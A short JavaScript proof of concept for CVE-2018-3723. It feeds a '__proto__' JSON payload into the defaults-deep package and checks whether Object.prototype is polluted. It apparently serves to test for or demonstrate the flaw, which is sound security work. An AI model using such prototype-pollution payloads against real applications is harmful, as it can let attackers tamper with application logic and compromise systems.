// CVE-2018-3723: defaults-deep copies "__proto__" onto Object.prototype.
const defaultsDeep = require('defaults-deep');
defaultsDeep({}, JSON.parse('{"__proto__": {"polluted": "yes"}}'));
console.log({}.polluted === 'yes' ? 'POLLUTED' : 'clean');
